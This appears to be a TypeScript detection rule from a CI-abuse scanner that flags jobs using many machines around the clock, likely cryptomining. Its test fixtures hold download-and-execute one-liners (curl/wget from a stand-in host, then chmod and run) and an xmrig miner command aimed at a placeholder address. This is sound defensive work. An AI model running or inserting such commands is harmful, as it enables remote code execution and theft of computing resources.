import { runsPerDay } from '../engine/job-time.ts';
import { type JobShape, type JobView, runsBrought } from '../engine/job-view.ts';
import { PROCESSORS_USUAL, processorsOf } from '../engine/processors.ts';
import type { Match, Rule } from '../engine/rule.ts';
import { WEIGHTS } from '../engine/weights.ts';

const HOUR_SECONDS = 3_600;
const DAY_SECONDS = 86_400;
/**
 * Machines busy day and night. A nightly matrix of 40 jobs of an hour keeps 1.7 busy; five jobs of
 * six hours every twenty minutes, as campaigns ask for, keep 90.
 */
const BUSY_MACHINES_MIN = 8;
/** Machine hours of one run without a schedule. A matrix of 100 jobs of an hour has 100. */
const RUN_HOURS_MIN = 600;
/** Jobs shorter than this are tests, however often they run. */
const JOB_SECONDS_MIN = 1_800;

/** More machines for longer than any test needs. */
export const fanOut: Rule = {
  id: 'fan-out',
  title: 'The job asks for many machines, day and night',
  severity: 'low',
  confidence: 'low',
  maturity: 'stable',
  group: 'shape',
  // A shape has no words.
  atoms: [],
  hits: [
    {
      what: 'a matrix every twenty minutes',
      script: 'curl -Lo w https://a.test/w; chmod +x w; ./w',
      shape: { fanOut: 5, schedules: ['*/20 * * * *'], timeoutSeconds: 21_600 },
    },
    {
      what: 'one long job at every quarter',
      script: './xmrig -o 203.0.113.9:443 -u a -p x',
      shape: { fanOut: 4, schedules: ['0,15,30,45 * * * *'], timeoutSeconds: 3_540 },
    },
    {
      what: 'a wide matrix of long jobs',
      script: 'wget -qO w https://a.test/w; chmod +x w; ./w',
      shape: { fanOut: 256, timeoutSeconds: 21_000 },
    },
    {
      what: 'large machines',
      script: 'wget -qO w https://a.test/w; chmod +x w; ./w',
      shape: { fanOut: 20, timeoutSeconds: 21_000, machine: ['ubuntu-64-core'] },
    },
    {
      what: 'many processors of one container',
      script: 'wget -qO w https://a.test/w; chmod +x w; ./w',
      shape: { fanOut: 20, timeoutSeconds: 21_000, machine: ['cpu=32', 'memory=64Gi'] },
    },
  ],
  innocents: [
    {
      what: 'a nightly matrix',
      script: 'curl -Lo t https://a.test/t; chmod +x t; ./t',
      shape: { fanOut: 60, schedules: ['0 3 * * *'], timeoutSeconds: 3_600 },
    },
    {
      what: 'a probe every five minutes',
      script: 'curl -Lo t https://a.test/t; chmod +x t; ./t',
      shape: { schedules: ['*/5 * * * *'], timeoutSeconds: 600 },
    },
    {
      what: 'a wide matrix of tests',
      script: './gradlew test',
      shape: { fanOut: 256, timeoutSeconds: 21_600 },
    },
    {
      what: 'a small share of a processor',
      script: 'wget -qO w https://a.test/w; chmod +x w; ./w',
      shape: { fanOut: 20, timeoutSeconds: 21_000, machine: ['cpu=500m', 'memory=64Gi'] },
    },
    {
      what: 'an unstated timeout',
      script: 'curl -Lo t https://a.test/t; chmod +x t; ./t',
      shape: { fanOut: 90 },
    },
  ],
  look(view: JobView): readonly Match[] {
    const program = view.commands.find((command) => runsBrought(command, view));
    if (!program || !isBeyondTests(view.shape)) return [];
    const { fanOut: copies, timeoutSeconds, schedules } = view.shape;
    const often = schedules.length === 0 ? '' : `, at ${schedules.join(' and ')}`;
    const evidence = `${copies} × ${timeoutSeconds} s${often}`;
    const match = { passage: program, bits: WEIGHTS.fanOut, evidence } as const;
    return [{ ...match, role: 'circumstance', position: 'executed' }];
  },
};

function isBeyondTests(shape: JobShape): boolean {
  const { fanOut: copies, timeoutSeconds, schedules } = shape;
  if (timeoutSeconds === null || timeoutSeconds < JOB_SECONDS_MIN) return false;
  const size = processorsOf(shape.machine) / PROCESSORS_USUAL;
  const runs = schedules.reduce((sum, schedule) => sum + runsPerDay(schedule), 0);
  const seconds = copies * timeoutSeconds * size;
  if ((seconds * runs) / DAY_SECONDS >= BUSY_MACHINES_MIN) return true;
  return seconds / HOUR_SECONDS >= RUN_HOURS_MIN;
}
